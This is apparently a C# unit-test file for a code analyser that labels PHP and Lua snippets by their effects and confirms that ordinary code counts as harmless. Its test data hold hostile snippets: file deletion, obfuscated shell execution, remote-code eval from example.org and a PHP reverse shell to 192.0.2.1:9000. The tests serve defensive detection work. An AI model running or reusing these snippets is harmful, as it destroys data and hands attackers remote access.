using Sallyport.Shell;

namespace Sallyport.Tests.Shell.Code;

public class PhpAndLuaTests
{
    [Theory]
    [InlineData("unlink('/etc/hosts');", "Delete /etc/hosts")]
    [InlineData("<?php foreach (glob('/srv/*.log') as $f) { unlink($f); } ?>", "Delete /srv/*.log")]
    [InlineData("file_put_contents('/etc/motd', 'x');", "Truncate /etc/motd #overwrite")]
    [InlineData("$c = 'i' . 'd'; system($c);", "Shell: id")]
    [InlineData("echo `id`;", "Shell: id")]
    [InlineData("$f = 'system'; $f('id');", "Shell: id")]
    [InlineData("call_user_func('exec', 'id');", "Shell: id")]
    [InlineData("array_map('system', ['id']);", "Shell: id")]
    [InlineData("eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));", "Shell: id")]
    [InlineData("function go($c) { shell_exec($c); } go('id');", "Shell: id")]
    [InlineData("class A { public $c = 'id'; function go() { system($this->c); } } (new A)->go();", "Shell: id")]
    [InlineData("eval(file_get_contents('http://example.org/a'));", "ExecuteDownloaded download of http://example.org/a ? #eval")]
    [InlineData("$s = fsockopen('192.0.2.1', 9000); proc_open('sh', [0 => $s], $p);", "OpenSession 192.0.2.1:9000 #reverse-shell")]
    public void Php(string code, string expected) => CodeProbe.Does(CodeLanguage.Php, code, expected);

    [Theory]
    [InlineData("echo 'unlink(\"/etc/hosts\")';")]
    [InlineData("// system('id');\n# system('id');\n/* system('id'); */")]
    [InlineData("<p>system('id')</p>\n<?= htmlspecialchars($x) ?>")]
    [InlineData("if ($a > 3) { echo \"rm -rf / $a[0]\"; } else { echo json_encode(['a' => 1]); }")]
    public void Ordinary_php_does_nothing(string code) => CodeProbe.IsHarmless(CodeLanguage.Php, code);

    [Theory]
    [InlineData("os.remove('/etc/hosts')", "Delete /etc/hosts")]
    [InlineData("for _, f in ipairs({'a', 'b'}) do os.remove(f) end", "Delete /home/dev/app/b")]
    [InlineData("io.open('/etc/motd', 'w'):write('x')", "Truncate /etc/motd #overwrite")]
    [InlineData("local c = 'i' .. 'd'; os.execute(c)", "Shell: id")]
    [InlineData("os['exec' .. 'ute'] 'id'", "Shell: id")]
    [InlineData("load(\"os.execute('id')\")()", "Shell: id")]
    [InlineData("local function go(c) os.execute(c) end go('id')", "Shell: id")]
    [InlineData("os.execute(string.char(105, 100))", "Shell: id")]
    [InlineData("os.execute('\\105\\100')", "Shell: id")]
    [InlineData("if x then print(1) elseif y then os.execute('id') end", "Shell: id")]
    public void Lua(string code, string expected) => CodeProbe.Does(CodeLanguage.Lua, code, expected);

    [Theory]
    [InlineData("print('os.execute(\"id\")')")]
    [InlineData("-- os.execute('id')")]
    [InlineData("--[[ os.execute('id') ]] print([[os.execute('id')]])")]
    [InlineData("local t = { a = 1, 2, ['b'] = 3 }; for k, v in pairs(t) do print(k, v) end")]
    public void Ordinary_lua_does_nothing(string code) => CodeProbe.IsHarmless(CodeLanguage.Lua, code);
}
